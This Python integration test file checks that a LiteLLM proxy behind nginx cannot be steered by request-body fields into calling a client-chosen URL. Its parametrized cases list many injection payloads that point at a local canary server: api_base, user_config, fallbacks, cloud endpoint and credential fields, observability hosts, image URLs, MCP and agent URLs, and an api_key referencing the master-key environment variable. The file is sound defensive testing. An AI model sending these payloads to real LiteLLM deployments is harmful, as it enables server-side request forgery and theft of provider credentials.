"""A client holding the key cannot make LiteLLM call a URL of its choosing.

LiteLLM merges request-body fields over a deployment's `litellm_params`, so `api_base`,
`base_url`, `user_config` (a per-request router config), provider credentials and endpoint
fields in a body could send the call (and whatever credentials the deployment holds) to any
host LiteLLM can reach. nginx hands LiteLLM its master key for every client request, so what
the client gets is what the master key gets.

A canary HTTP server on the stack's own Docker network (a container, never a host port) records
every request it receives and answers like an OpenAI server ("CANARY"). Every request below goes
through the edge with the client key and points one dangerous field at the canary; the canary
must receive nothing, and the client gets a 4xx or an answer from the real model (the field was
ignored). A positive control first proves the canary is reachable from LiteLLM's container, so
"nothing received" means something.
"""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
import requests

from llmstack import names, plan
from llmstack.images import LITELLM
from tests.helpers import Stack, wait_for

pytestmark = pytest.mark.integration

LABEL = {"llmstack.test": "request-body-injection"}
CANARY_PORT = 8000
CHAT_MODEL = "deepseek-coder"
EMBED_MODEL = "smollm2-embed"
REQUEST_TIMEOUT = 60.0  # one request through the edge
RETRY_FOR = 20.0  # how long a 429 (edge limiter or LiteLLM cooldown) is retried

# Records every request as one JSON line on stdout, answers 200 with an OpenAI-shaped body.
CANARY_SCRIPT = r"""
import http.server, json, sys
ANSWER = json.dumps({"id": "canary", "object": "chat.completion", "created": 0, "model": "canary",
    "choices": [{"index": 0, "finish_reason": "stop",
                 "message": {"role": "assistant", "content": "CANARY"}}],
    "data": [{"object": "embedding", "index": 0, "embedding": [0.0]}],
    "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}}).encode()
class Handler(http.server.BaseHTTPRequestHandler):
    def _record(self):
        length = int(self.headers.get("content-length") or 0)
        body = self.rfile.read(length) if length else b""
        print("CANARY " + json.dumps({"method": self.command, "path": self.path,
              "body": body[:200].decode("utf-8", "replace")}), flush=True)
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(ANSWER)))
        self.end_headers()
        self.wfile.write(ANSWER)
    do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = do_HEAD = _record
    def log_message(self, *args):
        pass
print("canary listening", flush=True)
http.server.ThreadingHTTPServer(("0.0.0.0", PORT), Handler).serve_forever()
""".replace("PORT", str(CANARY_PORT))


@dataclass
class Canary:
    """The recording server: its host name on the project network and what it received."""

    container: Any
    host: str

    def url(self, tag: str) -> str:
        """A base URL whose path names the case, so a hit says which field leaked."""
        return f"http://{self.host}:{CANARY_PORT}/{tag}"

    def hits(self) -> list[dict[str, str]]:
        lines = self.container.logs(stdout=True, stderr=False).decode(errors="replace")
        return [json.loads(line[len("CANARY "):]) for line in lines.splitlines()
                if line.startswith("CANARY ")]


@pytest.fixture(scope="module")
def canary(demo_stack: Stack, docker_client: Any) -> Iterator[Canary]:
    """A canary container on the demo stack's network, hardened like the stack's own."""
    name = f"{demo_stack.project}-canary-{uuid.uuid4().hex[:6]}"
    container = docker_client.containers.run(
        LITELLM.tag, entrypoint=["python3", "-u", "-c"], command=[CANARY_SCRIPT],
        name=name, network=names.network(demo_stack.project), labels=LABEL, detach=True,
        user=plan.OWN_UID, read_only=True, cap_drop=["ALL"],
        security_opt=["no-new-privileges:true"], mem_limit="128m", pids_limit=64)
    try:
        def listening() -> bool:
            container.reload()
            if container.status == "exited":
                raise AssertionError("canary exited:\n" + container.logs().decode())
            return b"canary listening" in container.logs()

        wait_for(listening, 30, interval=0.2, what="canary listening")
        yield Canary(container, name)
    finally:
        container.remove(force=True)


def _litellm(docker_client: Any, stack: Stack) -> Any:
    return docker_client.containers.get(names.container(stack.project, names.LITELLM))


def _post(stack: Stack, path: str, body: dict[str, Any]) -> requests.Response:
    """POST through the edge with the client key; a 429 (the edge's limiter, or LiteLLM's
    cooldown after another test's failure) is retried for a bounded time."""
    deadline = time.monotonic() + RETRY_FOR
    while True:
        resp = requests.post(stack.base_url + path, json=body, timeout=REQUEST_TIMEOUT,
                             headers={"Authorization": f"Bearer {stack.key}"})
        if resp.status_code != 429 or time.monotonic() > deadline:
            return resp
        time.sleep(1.0)


def _chat(**fields: Any) -> dict[str, Any]:
    return {"model": CHAT_MODEL, "messages": [{"role": "user", "content": "Hi"}],
            "max_tokens": 4, **fields}


# (id, route, body). `{C}` in any string is replaced by the canary's URL for that case.
_CANARY_CONFIG = {"model_list": [{"model_name": CHAT_MODEL, "litellm_params": {
    "model": "openai/canary", "api_base": "{C}/v1", "api_key": "sk-canary"}}]}
CASES: list[tuple[str, str, dict[str, Any]]] = [
    # The endpoint itself.
    ("api_base", "/chat/completions", _chat(api_base="{C}/v1")),
    ("base_url", "/chat/completions", _chat(base_url="{C}/v1")),
    # Older LiteLLM let `api_base` through whenever the body also carried an api_key
    # (check_complete_credentials): the "complete credentials" bypass.
    ("api_base+api_key", "/chat/completions", _chat(api_base="{C}/v1", api_key="sk-canary")),
    ("base_url+api_key", "/chat/completions", _chat(base_url="{C}/v1", api_key="sk-canary")),
    # A whole router config per request.
    ("user_config", "/chat/completions", _chat(user_config=_CANARY_CONFIG)),
    ("user_config-as-json", "/chat/completions", _chat(user_config=json.dumps(_CANARY_CONFIG))),
    ("model_list", "/chat/completions", _chat(model_list=_CANARY_CONFIG["model_list"])),
    # The same field one level down: spread into the call or read by callbacks.
    ("extra_body.api_base", "/chat/completions", _chat(extra_body={"api_base": "{C}/v1"})),
    ("metadata.api_base", "/chat/completions", _chat(metadata={"api_base": "{C}/v1"})),
    ("litellm_metadata.api_base", "/chat/completions",
     _chat(litellm_metadata={"api_base": "{C}/v1"})),
    ("litellm_params.api_base", "/chat/completions",
     _chat(litellm_params={"api_base": "{C}/v1", "api_key": "sk-canary"})),
    # Client-side fallbacks that name their own deployment or a URL.
    ("fallbacks-with-api_base", "/chat/completions",
     _chat(fallbacks=[{"model": "openai/canary", "api_base": "{C}/v1", "api_key": "sk-canary"}])),
    ("fallbacks-url-model", "/chat/completions", _chat(fallbacks=["openai/{C}/v1"])),
    ("router_settings_override", "/chat/completions", _chat(router_settings_override={
        "fallbacks": [{CHAT_MODEL: [{"model": "openai/canary", "api_base": "{C}/v1"}]}]})),
    ("url-valued-model", "/chat/completions", _chat(model="openai/{C}/v1")),
    # Provider credentials and provider endpoint fields.
    ("aws-endpoint+keys", "/chat/completions", _chat(
        aws_bedrock_runtime_endpoint="{C}", aws_access_key_id="AKIACANARY",
        aws_secret_access_key="canary", aws_region_name="us-east-1")),
    ("aws_sts_endpoint", "/chat/completions",
     _chat(aws_sts_endpoint="{C}", aws_role_name="arn:aws:iam::1:role/canary")),
    ("s3_endpoint_url", "/chat/completions", _chat(s3_endpoint_url="{C}")),
    ("sagemaker_base_url", "/chat/completions", _chat(sagemaker_base_url="{C}")),
    ("vertex_credentials", "/chat/completions",
     _chat(vertex_credentials='{"type": "service_account"}', vertex_project="canary")),
    ("azure_ad_token", "/chat/completions", _chat(azure_ad_token="canary")),
    ("api_key-secret-reference", "/chat/completions",
     _chat(api_key="os.environ/LITELLM_MASTER_KEY")),
    # Observability callbacks pointed at the canary (they run after the answer).
    ("langfuse_host", "/chat/completions", _chat(
        langfuse_host="{C}", langfuse_public_key="pk-canary", langfuse_secret_key="sk-canary")),
    ("proxy_base_url", "/chat/completions", _chat(proxy_base_url="{C}/v1")),
    # An image URL that a provider adapter would download (the client also picks the adapter).
    ("image_url-fetched-by-adapter", "/chat/completions", _chat(
        custom_llm_provider="anthropic",
        messages=[{"role": "user", "content": [
            {"type": "text", "text": "Hi"},
            {"type": "image_url", "image_url": {"url": "{C}/image.png"}}]}])),
    # The other OpenAI routes and the Anthropic one run the same check.
    ("embeddings-api_base", "/embeddings",
     {"model": EMBED_MODEL, "input": "Hi", "api_base": "{C}/v1"}),
    ("completions-api_base", "/completions",
     {"model": CHAT_MODEL, "prompt": "Hi", "max_tokens": 4, "api_base": "{C}/v1"}),
    ("responses-api_base", "/responses",
     {"model": CHAT_MODEL, "input": "Hi", "max_output_tokens": 4, "api_base": "{C}/v1"}),
    ("messages-api_base", "/messages", {
        "model": CHAT_MODEL, "max_tokens": 4, "api_base": "{C}",
        "messages": [{"role": "user", "content": "Hi"}]}),
    # LiteLLM's own routes under /v1/ that take a URL in the body.
    ("a2a-discover", "/a2a/discover", {"url": "{C}/agent"}),
    ("mcp-server", "/mcp/server",
     {"server_name": "canary", "alias": "canary", "url": "{C}/mcp", "transport": "http"}),
    ("mcp-oauth-session", "/mcp/server/oauth/session", {
        "server_name": "canary2", "alias": "canary2", "url": "{C}/mcp", "transport": "http",
        "auth_type": "oauth2"}),
    ("agents", "/agents", {
        "agent_name": "canary", "agent_card_params": {"name": "canary", "url": "{C}/a2a"},
        "litellm_params": {"model": "a2a/canary", "api_base": "{C}/a2a"}}),
]
# Fields LiteLLM may ignore rather than refuse; then the real model must have answered.
MAY_BE_IGNORED = {"litellm_params.api_base", "proxy_base_url"}
# LiteLLM's management routes: without a database they fail (LiteLLM's 500, passed through)
# or create an in-memory record; what matters there is that nothing was called.
MANAGEMENT = {"mcp-server", "mcp-oauth-session", "agents"}


def _fill(value: Any, url: str) -> Any:
    if isinstance(value, str):
        return value.replace("{C}", url)
    if isinstance(value, list):
        return [_fill(v, url) for v in value]
    if isinstance(value, dict):
        return {k: _fill(v, url) for k, v in value.items()}
    return value


def test_the_canary_is_reachable_from_litellm(demo_stack: Stack, docker_client: Any,
                                              canary: Canary) -> None:
    """Positive control: LiteLLM's container can call the canary, and the canary records it."""
    url = canary.url("positive-control")
    code, out = _litellm(docker_client, demo_stack).exec_run(
        ["python3", "-c", f"import urllib.request; print(urllib.request.urlopen({url!r}, "
                          "timeout=10).status)"], user=plan.OWN_UID)
    assert code == 0 and out.strip() == b"200", out
    wait_for(lambda: any(h["path"] == "/positive-control" for h in canary.hits()), 10,
             what="the canary to record the positive control")


@pytest.mark.parametrize(("case", "path", "template"), CASES, ids=[c[0] for c in CASES])
def test_a_body_field_cannot_send_the_call_to_another_url(
        demo_stack: Stack, canary: Canary, case: str, path: str, template: dict[str, Any]
) -> None:
    tag = f"case-{case}"
    resp = _post(demo_stack, path, _fill(template, canary.url(tag)))
    leaked = [h for h in canary.hits() if h["path"].startswith(f"/{tag}")]
    assert leaked == [], f"LiteLLM called the client's URL for {case}: {leaked}"
    assert "CANARY" not in resp.text, (case, resp.status_code, resp.text[:300])
    if case in MANAGEMENT:
        return
    if case in MAY_BE_IGNORED and resp.status_code == 200:
        content = resp.json()["choices"][0]["message"]["content"]
        assert content and resp.json()["model"] == CHAT_MODEL, resp.text[:300]
        return
    assert 400 <= resp.status_code < 500, (case, resp.status_code, resp.text[:300])


def test_a_field_that_only_changes_the_key_sent_to_our_own_model_is_harmless(
        demo_stack: Stack, canary: Canary) -> None:
    """`api_key` alone is not refused: it goes, with the deployment's own api_base, to the
    stack's llama.cpp container (which ignores keys); the real model answers."""
    resp = _post(demo_stack, "/chat/completions", _chat(api_key="sk-client-supplied"))
    assert resp.status_code == 200, resp.text[:300]
    assert resp.json()["choices"][0]["message"]["content"] != "CANARY"


def test_a_refused_field_is_named_in_the_answer(demo_stack: Stack, canary: Canary) -> None:
    resp = _post(demo_stack, "/chat/completions", _chat(api_base=canary.url("named") + "/v1"))
    assert 400 <= resp.status_code < 500
    error = resp.json()["error"]
    assert error.get("code") != "invalid_api_key", error
    assert "api_base" in error["message"], error


def test_the_canary_received_nothing_at_all(canary: Canary) -> None:
    """Last: callbacks run after the answer, so look again once they have had time to."""
    deadline = time.monotonic() + 3  # a window to observe, ended early by any hit
    while time.monotonic() < deadline:
        assert [h for h in canary.hits() if h["path"] != "/positive-control"] == []
        time.sleep(0.2)
